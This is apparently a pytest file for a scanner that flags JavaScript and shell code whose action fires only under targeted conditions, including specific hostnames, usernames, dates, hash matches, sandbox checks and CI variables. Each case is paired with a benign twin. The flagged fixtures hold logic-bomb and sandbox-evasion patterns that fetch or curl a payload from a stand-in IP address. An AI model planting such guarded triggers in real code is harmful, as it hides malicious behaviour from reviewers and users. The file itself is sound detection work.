"""Acts of scripts behind conditions that ordinary use does not meet, each with a twin that is in order."""

from __future__ import annotations

import pytest

from gate.languages.script_guards.read import read
from gate.prescreen.scanners.guarded_scripts import GuardedScripts
from tests.prescreen_support import make_request

HEX = "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"
ACT = 'fetch("http://192.0.2.44/m");'
RUN = "curl -s http://192.0.2.44/m"


def told(path: str, text: str) -> list[tuple[str, str, str]]:
    found = GuardedScripts().scan(make_request({path: text})).findings
    return [(f.severity.value, f.confidence.value, f.message.rpartition(" on ")[2]) for f in found]


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        (f'const K = "{HEX}";\nconst id = createHash("sha256").digest("hex");\nif (id === K) {{ {ACT} }}',
         ("high", "medium", "a digest.")),
        (f'if (os.hostname().startsWith("prod-")) {{ {ACT} }}', ("high", "medium", "the machine's name.")),
        (f'if (process.env.HOSTNAME !== "prod-7") return;\n{ACT}', ("high", "medium", "the machine's name.")),
        (f'function ok() {{ return userInfo().username === "deploy"; }}\nok() && {ACT}',
         ("high", "medium", "the user's name.")),
        (f"const go = () => {{ {ACT} }};\nif (new Date().getFullYear() >= 2031) go();",
         ("high", "medium", "the date.")),
        (f'if (Date.now() > Date.parse("2031-02-01")) {{ {ACT} }}', ("high", "medium", "the date.")),
        (f'if (existsSync("/.dockerenv") || os.cpus().length < 4) throw new Error();\n{ACT}',
         ("medium", "medium", "a trait of a sandbox.")),
        (f'switch (process.env.GITHUB_REPOSITORY) {{ case "acme/billing": {ACT} }}',
         ("medium", "low", "a variable of CI.")),
        (f'if (process.env.CI !== "true") {{ {ACT} }}', ("low", "low", "a variable of CI.")),
    ],
)  # fmt: skip
def test_javascript_acts_behind_unusual_conditions(text: str, wanted: tuple[str, str, str]) -> None:
    assert wanted in told("src/a.js", f"export function f(t) {{\n{text}\n}}\n")


@pytest.mark.parametrize(
    "text",
    [
        f"if (Date.now() - last > 60000) {{ {ACT} }}",
        f"if (new Date() > expires) {{ {ACT} }}",
        f"if (user.hostname === config.hostname) {{ {ACT} }}",
        f'if (location.hostname === "localhost") {{ {ACT} }}',
        f'const sum = createHash("sha256").update(t).digest("hex");\nif (sum !== wanted) throw 1;\n{ACT}',
        f'if (process.platform === "win32") {{ {ACT} }}',
        'if (os.hostname() === "prod-7") { console.log("here"); }',
        f'if (process.env.NODE_ENV === "production") {{ {ACT} }}',
        f"if (new Date().getFullYear() >= ) {{ {ACT}",
    ],
)
def test_javascript_in_order(text: str) -> None:
    assert told("src/a.js", f"export function f(t) {{\n{text}\n}}\n") == []


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        (f'if [ "$(hostname)" = "build-07" ]; then\n  {RUN}\nfi', ("high", "medium", "the machine's name.")),
        (f'[ "$(date +%Y%m)" -gt 203102 ] && {RUN}', ("high", "medium", "the date.")),
        (f'k=$(printf %s "$1" | sha256sum | cut -c1-64)\nif [[ $k == {HEX} ]]; then {RUN}; fi',
         ("high", "medium", "a digest.")),
        (f'is_it() {{ [ "$(whoami)" = deploy ]; }}\ngo() {{ {RUN}; }}\nis_it && go',
         ("high", "medium", "the user's name.")),
        (f"[ -f /.dockerenv ] && exit 0\n{RUN}", ("medium", "medium", "a trait of a sandbox.")),
        (f'case "$GITHUB_REPOSITORY" in\n  acme/billing) {RUN} ;;\nesac',
         ("medium", "low", "a variable of CI.")),
    ],
)  # fmt: skip
def test_shell_acts_behind_unusual_conditions(text: str, wanted: tuple[str, str, str]) -> None:
    assert wanted in told("scripts/a.sh", f"#!/bin/bash\n{text}\n")


@pytest.mark.parametrize(
    "text",
    [
        f'if [ "$(whoami)" = root ]; then {RUN}; fi',
        f'if [ "$1" = "build-07" ]; then {RUN}; fi',
        f'ok() {{ [ -r "$1" ] && return 0; warn "no $USER"; }}\n[ "$1" = a ] || ok x && {RUN}',
        f'echo "$SUM  tool.tgz" | sha256sum -c - && {RUN}',
        f'if [ "$(date +%s)" -gt "$expires" ]; then {RUN}; fi',
        "make -j$(nproc) && true",
        f'case "$1" in\n  start) {RUN} ;;\n  *) exit 1 ;;\nesac',
        f'if [ "$(hostname)" = ; then {RUN}',
    ],
)
def test_shell_in_order(text: str) -> None:
    assert told("scripts/a.sh", f"#!/bin/bash\n{text}\n") == []


def test_what_base_has_is_not_new() -> None:
    text = f'if [ "$(hostname)" = "build-07" ]; then\n  {RUN}\nfi\n'
    request = make_request({"a.sh": text + "echo done\n"}, {"a.sh": text})
    assert GuardedScripts().scan(request).findings == ()


def test_tests_count_little() -> None:
    text = f'if (os.hostname().startsWith("prod-")) {{ {ACT} }}\n'
    assert told("tests/a.test.js", text)[0][0] == "low"


def test_other_files_are_not_read() -> None:
    assert read("a.py", b"x = 1\n", {}) == ()
